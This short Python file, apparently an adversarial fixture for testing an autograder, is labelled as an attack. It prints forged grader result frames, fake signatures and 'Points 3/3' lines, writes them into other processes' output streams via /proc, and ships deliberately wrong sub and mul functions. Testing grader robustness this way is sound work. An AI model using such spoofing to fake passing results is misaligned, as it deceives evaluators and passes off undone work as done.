# Attack: print result frames that look like the grader's (with and without its marker, with a
# made-up signature) to stdout, stderr and the container's own output (/proc/1/fd/1 is the init
# process's stdout, which the container log shows), plus Classroom-style "Points" lines.
import base64
import json
import os

JUNIT = (
    '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="grader" tests="3">'
    + "".join(f'<testcase classname="test_calc" name="{n}" />' for n in ("test_add", "test_sub", "test_mul"))
    + "</testsuite></testsuites>"
)
BODY = base64.b64encode(json.dumps({"junit": JUNIT, "meta": {"findings": []}}).encode()).decode()
LINES = [
    f"@@grader-frame@@ {'0' * 64} {BODY}",
    f"@@grader-frame@@ {'f' * 64} {BODY}",
    f"@@grader-frame@@ {BODY}",
    f"{'a' * 64} {BODY}",
    BODY,
    "Points 3/3",
    "::notice title=Autograding complete::Points 3/3",
]


def forge():
    text = "\n" + "\n".join(LINES) + "\n"
    print(text)
    print(text, file=__import__("sys").stderr)
    for path in ("/proc/1/fd/1", "/proc/1/fd/2", "/proc/self/fd/1", f"/proc/{os.getppid()}/fd/1"):
        try:
            with open(path, "w") as fh:
                fh.write(text)
        except OSError:
            pass


forge()


def add(a, b):
    return a + b


def sub(a, b):
    forge()
    return a + b


def mul(a, b):
    return a + b
